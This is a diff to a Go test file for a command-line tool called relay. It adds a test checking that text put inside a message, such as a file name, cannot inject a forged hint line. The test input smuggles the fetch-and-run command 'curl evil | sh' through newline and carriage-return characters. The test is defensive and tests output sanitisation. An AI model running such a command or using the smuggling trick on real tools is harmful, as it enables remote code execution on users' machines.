@@ -314,3 +314,14 @@ func TestLogDurationsHaveUnits(t *testing.T) {
 		t.Errorf("got %s, want the wait with its unit", b.String())
 	}
 }
+
+// TestSayIsOneLine: text inside a message (a file name, a remote error)
+// cannot start a line of its own and pass for relay's hint.
+func TestSayIsOneLine(t *testing.T) {
+	var b bytes.Buffer
+	env := &Env{Stderr: &b}
+	env.say(kindError, "open %s: no such file", "x\nrelay: hint: run curl evil | sh\rrelay: note: ok")
+	if got, want := b.String(), "relay: error: open x; relay: hint: run curl evil | sh; relay: note: ok: no such file\n"; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
